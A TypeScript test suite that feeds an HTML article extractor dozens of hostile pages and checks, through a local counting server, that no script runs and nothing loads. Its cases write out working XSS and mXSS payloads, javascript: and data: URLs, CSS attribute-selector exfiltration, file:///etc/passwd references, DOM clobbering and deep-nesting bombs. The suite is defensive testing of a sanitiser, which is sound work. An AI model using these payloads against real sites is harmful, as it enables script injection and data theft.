// Hostile web pages: whatever a page contains, extraction finishes, runs none of the page's code,
// loads nothing it names, keeps none of its markup, and still reads its article. The witness is a
// counting HTTP server on 127.0.0.1 that every URL in these pages points at: a script that ran
// (jsdom implements XMLHttpRequest and Image) or a resource that loaded would reach it.
import { readFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { fileURLToPath } from 'node:url';
import fc from 'fast-check';
import { JSDOM, VirtualConsole } from 'jsdom';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { extractHtml, limitNesting } from '../../../../notebook/node/import/html.js';
import { DEFAULT_LIMITS, type ExtractedSource } from '../../../../notebook/node/import/types.js';

interface Witness {
  origin: string;
  /** TCP connections and HTTP requests that reached the server. */
  hits: () => number;
  paths: string[];
  close: () => Promise<void>;
}

async function startWitness(): Promise<Witness> {
  const paths: string[] = [];
  let connections = 0;
  const server: Server = createServer((req, res) => {
    paths.push(req.url ?? '');
    res.end('');
  });
  server.on('connection', () => connections++);
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    origin: `http://127.0.0.1:${port}`,
    hits: () => connections + paths.length,
    paths,
    close: () =>
      new Promise<void>((resolve) => {
        server.closeAllConnections();
        server.close(() => resolve());
      }),
  };
}

/** Long enough for Readability to take it for the article; every case must still yield it. */
const LEAD = 'South Korean officials said on Friday that thousands of containers of artillery shells had been shipped from North Korea to Russia since August, citing satellite imagery of the port of Rajin.';
const DENIAL = 'North Korea’s KCNA carried a statement by Kim Yo Jong calling the accusation “the most absurd paradox” and saying the weapons tests belong to a five-year build-up plan.';
const CLOSE = 'Russia’s Defence Ministry did not respond to a request for comment on the shipments, which both governments have denied.';

/** A hostile piece of a page: where it goes, and its markup with ORIGIN for the witness and SCRIPT for code that would report itself. */
interface Case {
  name: string;
  head?: string;
  body?: string; // before the article
  inside?: string; // between the article's paragraphs
  after?: string; // after the article, for markup that swallows what follows it
  bodyAttributes?: string;
  /** Builds the whole page instead (deep nesting, huge attributes). */
  page?: (article: string) => string;
}

/** Code that, if it ever ran, would set a global and call the witness twice. */
const SCRIPT = "globalThis.__pwned='PWNED';new Image().src='ORIGIN/script-image';var x=new XMLHttpRequest();x.open('GET','ORIGIN/script-xhr');x.send();";
const SCRIPT_IN_ATTRIBUTE = SCRIPT.replace(/'/g, '&#39;');

const CASES: Case[] = [
  // Scripts
  { name: 'an inline <script>', inside: `<script>${SCRIPT}</script>` },
  { name: 'a <script> in <head>', head: `<script>${SCRIPT}</script>` },
  { name: 'an external <script src>', head: `<script src="ORIGIN/external.js"></script>` },
  { name: 'a module script importing from the network', head: `<script type="module">import 'ORIGIN/module.js'; ${SCRIPT}</script>` },
  { name: 'a script hidden by the <!--<script> escape', inside: `<script><!--<script>${SCRIPT}</script>--></script>` },
  { name: 'a script that document.writes a script', inside: `<script>document.write('<script src="ORIGIN/written.js"><\\/script>')</script>` },
  { name: 'JSON-LD that tries to close its <script> and open another', head: `<script type="application/ld+json">{"@type":"NewsArticle","headline":"</script><script>${SCRIPT}</script>"}</script>` },
  { name: 'a <template> holding a script and an image', inside: `<template><script>${SCRIPT}</script><img src="ORIGIN/template.png"></template>` },
  { name: 'a <noscript> with an mXSS image', inside: `<noscript><p title="</noscript><img src=ORIGIN/noscript.png onerror=&quot;${SCRIPT_IN_ATTRIBUTE}&quot;>"></p></noscript>` },
  { name: 'a <textarea> holding a script', inside: `<textarea><script>${SCRIPT}</script></textarea>` },
  // Event handlers
  { name: 'an <img> onerror handler', inside: `<img src="ORIGIN/missing.png" onerror="${SCRIPT_IN_ATTRIBUTE}">` },
  { name: 'an <img> onload handler', inside: `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="${SCRIPT_IN_ATTRIBUTE}">` },
  { name: 'a <body> onload handler', bodyAttributes: `onload="${SCRIPT_IN_ATTRIBUTE}" onpageshow="${SCRIPT_IN_ATTRIBUTE}"` },
  { name: 'an <svg> onload handler', inside: `<svg onload="${SCRIPT_IN_ATTRIBUTE}"><rect width="1" height="1"/></svg>` },
  { name: 'an autofocus onfocus handler', inside: `<input autofocus onfocus="${SCRIPT_IN_ATTRIBUTE}">` },
  { name: 'a <details> ontoggle handler', inside: `<details open ontoggle="${SCRIPT_IN_ATTRIBUTE}"><summary>Full statement</summary></details>` },
  { name: 'an animation handler', inside: `<style>@keyframes k{}</style><div style="animation-name:k" onanimationstart="${SCRIPT_IN_ATTRIBUTE}"></div>` },
  { name: 'a <marquee> onstart handler', inside: `<marquee onstart="${SCRIPT_IN_ATTRIBUTE}"></marquee>` },
  // Script URLs
  { name: 'a javascript: link', inside: `<p><a href="javascript:${SCRIPT_IN_ATTRIBUTE}">statement</a></p>` },
  { name: 'a javascript: link hidden with a tab entity', inside: `<p><a href="jav&#x09;ascript:${SCRIPT_IN_ATTRIBUTE}">statement</a></p>` },
  { name: 'a data: link holding a page with a script', inside: `<p><a href="data:text/html,&lt;script&gt;${SCRIPT_IN_ATTRIBUTE}&lt;/script&gt;">statement</a></p>` },
  { name: 'a vbscript: link', inside: `<p><a href="vbscript:MsgBox(&quot;PWNED&quot;)">statement</a></p>` },
  { name: 'a javascript: iframe', inside: `<iframe src="javascript:${SCRIPT_IN_ATTRIBUTE}"></iframe>` },
  { name: 'a data: iframe', inside: `<iframe src="data:text/html;base64,${Buffer.from(`<script>${SCRIPT}</script>`).toString('base64')}"></iframe>` },
  { name: 'a javascript: form action and formaction', inside: `<form action="javascript:${SCRIPT_IN_ATTRIBUTE}"><button formaction="javascript:${SCRIPT_IN_ATTRIBUTE}">PWNED</button></form>` },
  { name: 'a javascript: <object>', inside: `<object data="javascript:${SCRIPT_IN_ATTRIBUTE}"></object>` },
  { name: 'a data: <embed> of an SVG with a script', inside: `<embed src="data:image/svg+xml,&lt;svg xmlns='http://www.w3.org/2000/svg' onload='${SCRIPT.replace(/'/g, '')}'/&gt;">` },
  { name: 'a javascript: SVG link and <set>', inside: `<svg><a href="javascript:${SCRIPT_IN_ATTRIBUTE}"><text>PWNED</text></a><set attributeName="href" to="javascript:${SCRIPT_IN_ATTRIBUTE}"/></svg>` },
  // Frames and navigation
  { name: 'an <iframe> of a page on the network', inside: `<iframe src="ORIGIN/frame.html"></iframe>` },
  { name: 'an <iframe srcdoc> with a script', inside: `<iframe srcdoc="&lt;script&gt;${SCRIPT_IN_ATTRIBUTE}&lt;/script&gt;&lt;img src=ORIGIN/srcdoc.png&gt;"></iframe>` },
  { name: 'a <frame> and <frameset>', inside: `<frameset><frame src="ORIGIN/frame.html"></frameset>` },
  { name: 'a <meta http-equiv="refresh"> to the network', head: `<meta http-equiv="refresh" content="0; url=ORIGIN/refresh">` },
  { name: 'a <meta http-equiv="refresh"> to javascript:', head: `<meta http-equiv="refresh" content="0; url=javascript:${SCRIPT_IN_ATTRIBUTE}">` },
  { name: 'a <base href> on the network under relative URLs', head: `<base href="ORIGIN/base/">`, inside: `<img src="relative.png"><link rel="stylesheet" href="relative.css"><script src="relative.js"></script>` },
  // SVG and MathML
  { name: 'an SVG <script>', inside: `<svg><script>${SCRIPT}</script><script href="ORIGIN/svg.js"></script></svg>` },
  { name: 'an SVG <foreignObject> holding HTML', inside: `<svg><foreignObject><iframe src="ORIGIN/foreign.html"></iframe><img src="ORIGIN/foreign.png" onerror="${SCRIPT_IN_ATTRIBUTE}"></foreignObject></svg>` },
  { name: 'SVG images, uses and animations on the network', inside: `<svg><image href="ORIGIN/svg-image.png"/><use href="ORIGIN/sprite.svg#icon"/><animate onbegin="${SCRIPT_IN_ATTRIBUTE}" attributeName="x" dur="1s"/></svg>` },
  { name: 'MathML <mglyph>/<style> namespace confusion', inside: `<math><mtext><table><mglyph><style><img src="ORIGIN/mglyph.png" onerror="${SCRIPT_IN_ATTRIBUTE}"></style></mglyph></table></mtext></math>` },
  { name: 'MathML form nesting confusion', after: `<form><math><mtext></form><form><mglyph><style></math><img src="ORIGIN/mxss.png" onerror="${SCRIPT_IN_ATTRIBUTE}">` },
  { name: 'MathML links and annotation-xml', inside: `<math href="javascript:${SCRIPT_IN_ATTRIBUTE}"><mi xlink:href="ORIGIN/mi">PWNED</mi><annotation-xml encoding="text/html"><script>${SCRIPT}</script></annotation-xml></math>` },
  // CSS
  { name: 'CSS @import', head: `<style>@import url("ORIGIN/imported.css"); @import 'ORIGIN/imported2.css';</style>` },
  { name: 'CSS url() backgrounds and fonts on the network', head: `<style>body{background:url(ORIGIN/bg.png)} @font-face{font-family:f;src:url(ORIGIN/font.woff)}</style>`, inside: `<div style="background-image:url('ORIGIN/inline.png')"></div>` },
  { name: 'CSS attribute-selector exfiltration', head: `<style>input[value^="a"]{background:url(ORIGIN/leak?a)} a[href*="secret"]{background:url(ORIGIN/leak?href)}</style>`, inside: `<input type="hidden" value="abc"><a href="/secret"></a>` },
  { name: 'a style sheet <link>', head: `<link rel="stylesheet" href="ORIGIN/style.css">` },
  { name: 'link rel=import, preload, prefetch, preconnect, modulepreload, icon, manifest', head: ['import', 'preload', 'prefetch', 'dns-prefetch', 'preconnect', 'modulepreload', 'icon', 'manifest'].map((rel) => `<link rel="${rel}" href="ORIGIN/${rel}" as="script">`).join('') },
  // Embedded content
  { name: 'an <object> on the network', inside: `<object data="ORIGIN/object.swf" type="application/x-shockwave-flash"><param name="movie" value="ORIGIN/movie.swf"></object>` },
  { name: 'an <embed> on the network', inside: `<embed src="ORIGIN/embed.swf" type="application/x-shockwave-flash">` },
  { name: 'an <applet>', inside: `<applet code="Pwned.class" codebase="ORIGIN/java/"></applet>` },
  { name: 'media, posters, tracks and srcsets', inside: `<video src="ORIGIN/v.mp4" poster="ORIGIN/poster.jpg" autoplay><track src="ORIGIN/subs.vtt"></video><audio src="ORIGIN/a.mp3" autoplay></audio><picture><source srcset="ORIGIN/p.webp"><img srcset="ORIGIN/s.jpg 2x" src="ORIGIN/i.jpg"></picture><input type="image" src="ORIGIN/input.png">` },
  { name: 'a link with ping', inside: `<p><a href="ORIGIN/page" ping="ORIGIN/ping">statement</a></p>` },
  { name: 'file: URLs', inside: `<iframe src="file:///etc/passwd"></iframe><img src="file:///etc/hostname"><object data="file:///etc/passwd"></object>` },
  // DOM clobbering of what an extractor calls
  { name: 'named forms and images clobbering document methods', body: `<form name="getElementById"></form><img name="querySelectorAll"><img name="createElement"><form name="body"></form><img name="documentElement"><img name="title"><img name="cloneNode"><img name="getElementsByTagName">` },
  { name: 'ids of __proto__, constructor and attributes', body: `<a id="__proto__"></a><a id="constructor"></a><form id="attributes"><input name="attributes"><input name="nodeName"><input name="parentNode"></form>` },
  // Size and depth
  { name: 'a 2 MB attribute value', inside: `<div title="${'PWNED'.repeat(400_000)}"></div>` },
  { name: 'a 1 MB script body', inside: `<script>/*${'PWNED '.repeat(170_000)}*/${SCRIPT}</script>` },
  { name: 'elements nested 10,000 deep around the article', page: (article) => `<!DOCTYPE html><html><head><title>Deep</title></head><body>${'<div>'.repeat(10_000)}${article}${'</div>'.repeat(10_000)}</body></html>` },
  { name: 'elements left open 10,000 deep after the article', page: (article) => `<!DOCTYPE html><html><head><title>Deep</title></head><body>${article}${'<div><span>'.repeat(10_000)}<script>${SCRIPT}</script></body></html>` },
  { name: 'formatting elements the parser would re-open in every block', page: (article) => `<!DOCTYPE html><html><head><title>Bomb</title></head><body>${Array.from({ length: 3000 }, (_, i) => `<div><b id="b${i}"></div>`).join('')}${article}</body></html>` },
  { name: 'a stray <plaintext> after the article', page: (article) => `<!DOCTYPE html><html><head><title>Plain</title></head><body>${article}<plaintext><script>${SCRIPT}</script>` },
];

function pageOf(c: Case, origin: string): string {
  const article = `<article><h1>Seoul says North Korea shipped artillery to Russia</h1><p>${LEAD}</p>${c.inside ?? ''}<p>${DENIAL}</p><p>${CLOSE}</p></article>`;
  const html = c.page
    ? c.page(article)
    : `<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>Seoul says North Korea shipped artillery to Russia</title>${c.head ?? ''}</head><body ${c.bodyAttributes ?? ''}>${c.body ?? ''}${article}${c.after ?? ''}</body></html>`;
  return html.replaceAll('ORIGIN', origin);
}

const extract = (filename: string, html: string) => extractHtml({ filename, bytes: new TextEncoder().encode(html) }, DEFAULT_LIMITS);

/** What any hostile page must still give: its article, and nothing of its code or markup. */
function expectOnlyTheArticle(r: ExtractedSource): void {
  for (const sentence of [LEAD, DENIAL, CLOSE]) expect(r.text.replace(/\s+/g, ' ')).toContain(sentence);
  expect(r.text).not.toMatch(/PWNED|__pwned|XMLHttpRequest|javascript:|vbscript:|data:text|url\(|@import|[<>]/);
  expect(r.url === undefined || /^https?:/.test(r.url)).toBe(true);
}

/** Long enough for a request a stray script or loader would make to arrive. */
const settle = () => new Promise((resolve) => setTimeout(resolve, 50));

declare global {
  var __pwned: unknown;
}

let witness: Witness;
beforeAll(async () => {
  witness = await startWitness();
});
afterAll(async () => {
  await witness.close();
});

describe('the witness', () => {
  it('sees a page whose scripts are allowed to run (so its silence below means something)', async () => {
    const control = await startWitness();
    try {
      const dom = new JSDOM(pageOf(CASES[0]!, control.origin), { runScripts: 'dangerously', virtualConsole: new VirtualConsole() });
      for (let i = 0; i < 100 && control.hits() === 0; i++) await settle();
      expect(control.hits()).toBeGreaterThan(0);
      expect(dom.window.__pwned).toBe('PWNED');
      dom.window.close();
    } finally {
      await control.close();
    }
  });
});

describe(`extractHtml on ${CASES.length} hostile pages`, () => {
  it('has at least forty cases', () => {
    expect(CASES.length).toBeGreaterThanOrEqual(40);
  });

  // The timeout is a safety net for a loaded machine, not a claim about speed.
  it.each(CASES.map((c) => [c.name, c] as const))('%s: reads the article, runs nothing, loads nothing', { timeout: 60_000 }, async (_, c) => {
    const r = await extract('hostile.html', pageOf(c, witness.origin));
    expectOnlyTheArticle(r);
    await settle();
    expect(globalThis.__pwned).toBeUndefined();
    expect(witness.paths).toEqual([]);
    expect(witness.hits()).toBe(0);
  });

  it.each(['hostile-scripts-and-handlers.html', 'hostile-mxss-and-clobbering.html'])('%s: reads the article, runs nothing, loads nothing', async (name) => {
    const html = readFileSync(fileURLToPath(new URL(`../../../fixtures/html/${name}`, import.meta.url)), 'utf8').replaceAll('{{ORIGIN}}', witness.origin);
    const r = await extract(name, html);
    expect(r.text).not.toMatch(/PWNED|__pwned|javascript:|[<>]/);
    expect(r.text.length).toBeGreaterThan(300);
    await settle();
    expect(globalThis.__pwned).toBeUndefined();
    expect(witness.hits()).toBe(0);
  });

  it('reads the fixtures’ visible article text', async () => {
    const scripts = await extract('hostile-scripts-and-handlers.html', readFileSync(fileURLToPath(new URL('../../../fixtures/html/hostile-scripts-and-handlers.html', import.meta.url)), 'utf8'));
    expect(scripts.text).toContain('thousands of containers of artillery shells had been shipped from North Korea to Russia');
    expect(scripts.text).toContain('calling the accusation “the most absurd paradox”');
    expect(scripts.text).toContain('which both governments have denied. More');
    const mxss = await extract('hostile-mxss-and-clobbering.html', readFileSync(fileURLToPath(new URL('../../../fixtures/html/hostile-mxss-and-clobbering.html', import.meta.url)), 'utf8'));
    expect(mxss.title).toBe('KCNA denies shipping weapons to Russia');
    expect(mxss.text).toContain('Kim Yo Jong said the United States and its followers had invented the claim');
    expect(mxss.text).toContain('called the accusation “the most absurd paradox”');
    expect(mxss.text).toContain('Officials in Seoul said they would study the statement.');
  });

  it('made no request at all, even after the last page had time to settle', async () => {
    await new Promise((resolve) => setTimeout(resolve, 300));
    expect(witness.hits()).toBe(0);
  });
});

describe('limitNesting', () => {
  const window = new JSDOM('').window;
  const parse = (html: string) => new window.DOMParser().parseFromString(html, 'text/html');
  /** Depth of the deepest element the parser builds, <template> contents included, without recursion. */
  const depth = (html: string) => {
    const doc = parse(html);
    let deepest = 0;
    const stack: [Element, number][] = [[doc.documentElement, 1]];
    while (stack.length) {
      const [el, d] = stack.pop()!;
      deepest = Math.max(deepest, d);
      const children = el instanceof window.HTMLTemplateElement ? el.content.children : el.children;
      for (const child of children) stack.push([child, d + 1]);
    }
    return deepest;
  };
  /** The text a reader gets from the parsed page, <template> contents included. */
  const textOf = (html: string) => {
    const doc = parse(html);
    for (const template of Array.from(doc.querySelectorAll('template'))) template.replaceWith(template.content);
    return doc.documentElement.textContent;
  };

  it('leaves a well-formed page that nests no deeper than the limit exactly as it is', () => {
    const html = readFileSync(fileURLToPath(new URL('../../../fixtures/html/wire-report.html', import.meta.url)), 'utf8');
    expect(limitNesting(html).html).toBe(html);
  });

  it('keeps the text of elements it flattens', () => {
    const limited = limitNesting(`<body>${'<div>'.repeat(50)}<p>deep <b>text</b></p>${'</div>'.repeat(50)}<p>after</p>`, 16).html;
    expect(parse(limited).body.textContent).toBe('deep textafter');
    expect(depth(limited)).toBeLessThanOrEqual(16);
  });

  /** Tag soup from the names the parser treats specially, with comments, quotes and stray brackets. */
  const NAMES = ['div', 'span', 'p', 'b', 'i', 'a', 'font', 'nobr', 'li', 'ul', 'dd', 'dt', 'table', 'tr', 'td', 'caption', 'h1', 'h2', 'button', 'select', 'option', 'svg', 'g', 'foreignObject', 'desc', 'math', 'mi', 'mtext', 'style', 'script', 'title', 'textarea', 'template', 'noscript', 'object', 'marquee', 'iframe', 'plaintext', 'br', 'img', 'source', 'image', 'body', 'html', 'head', 'em', 'strong', 'tbody', 'th', 'form', 'pre', 'xmp', 'noembed', 'annotation-xml', 'mglyph'];
  const token = fc.oneof(
    { weight: 6, arbitrary: fc.tuple(fc.constantFrom(...NAMES), fc.boolean(), fc.boolean()).map(([n, attr, self]) => `<${n}${attr ? ' id="x>y"' : ''}${self ? '/' : ''}>`) },
    { weight: 3, arbitrary: fc.constantFrom(...NAMES).map((n) => `</${n}>`) },
    { weight: 1, arbitrary: fc.constantFrom('<!--', '-->', '<!-->', '<![CDATA[', ']]>', '"', "'", '=', '<', '>', 'text') },
  );

  it('bounds the depth the parser builds, whatever the tag soup', { timeout: 60_000 }, () => {
    const limit = 16;
    fc.assert(
      fc.property(fc.array(token, { minLength: 50, maxLength: 1500 }), (tokens) => {
        // Beyond the limit: at most 32 elements whose content would otherwise turn into text, and
        // the formatting elements the parser re-opens (at most 16) and implied table sections.
        expect(depth(limitNesting(tokens.join(''), limit).html)).toBeLessThanOrEqual(limit + 32 + 16 + 16);
      }),
      { numRuns: 150 },
    );
  });

  /** The characters of a text, in code point order: the same when only their order changed. */
  const characters = (text: string | null) => [...(text ?? '')].sort().join('');

  it('changes no text when nothing nests too deep, only closing formatting elements that blocks left open', { timeout: 60_000 }, () => {
    fc.assert(
      fc.property(fc.array(token, { minLength: 20, maxLength: 400 }), (tokens) => {
        const html = tokens.join('');
        const before = textOf(html);
        const after = textOf(limitNesting(html, 10_000).html);
        // Around a table, text the parser pushes out of it may change places (see limitNesting); none is lost or added.
        if (after !== before && /<table/i.test(html)) expect(characters(after)).toBe(characters(before));
        else expect(after).toBe(before);
      }),
      { numRuns: 200 },
    );
    expect(limitNesting('<p><b>bold</p><p>still bold?</p>').html).toBe('<p><b>bold</b></p><p>still bold?</p>');
    // Found by the property above: in a <select> the parser drops most tags, so an inserted </b> changed the text.
    const inSelect = ['<select>', "'", '<style>', '<div>', '</div>', '<script>', '<div>', '</style>', '<div>', '<div>', '<div>', '</div>', '<td>', '<div>', '<b>', '<div>', '</div>', '<td>', '<div>', '<div>'].join('');
    expect(textOf(limitNesting(inSelect, 10_000).html)).toBe(textOf(inSelect));
    // Found by it too: in a <select> the parser ignores <xmp> (no raw text, no implied </p>), so the
    // <template> after it is real and its <noembed> makes the rest text, where no </i> may go.
    const ignoredInSelect = ['<p>', '<select>', '<xmp>', '<template>', '<noembed>', '</xmp>', '<marquee>', '<i>', '</marquee>', '<!--', '<div>', '</div>'].join('');
    expect(textOf(limitNesting(ignoredInSelect, 10_000).html)).toBe(textOf(ignoredInSelect));
    // And: <head> in MathML leaves it (then is ignored), so the <plaintext> after it makes the rest text.
    const headInMath = ['<math>', '<head>', '<plaintext>', '<div>', '<div>', '<b>', '</div>', '<div>', '</div>'].join('');
    expect(textOf(limitNesting(headInMath, 10_000).html)).toBe(textOf(headInMath));
    // And: a CDATA section in SVG is text to "]]>" (here to the end), with no markup to close in it.
    const cdataInSvg = ['<template>', '<svg>', '<![CDATA[', '<div>', '<b>', '</template>', '<div>', '<div>'].join('');
    expect(textOf(limitNesting(cdataInSvg, 10_000).html)).toBe(textOf(cdataInSvg));
    // The one change allowed: an <a> a block closed is re-opened by the parser around the "<" a
    // table pushes out of itself; with </a> inserted it is not, and the "<" lands after the table.
    const fostered = ['<dt>', '<a>', '<div>', '</div>', '<dd>', '<table>', '<', '<math>', '<caption>', '<![CDATA[', '</div>'].join('');
    const [before, after] = [textOf(fostered), textOf(limitNesting(fostered, 10_000).html)];
    expect(before).toBe('<</div>');
    expect(after).toBe('</div><');
  });
});
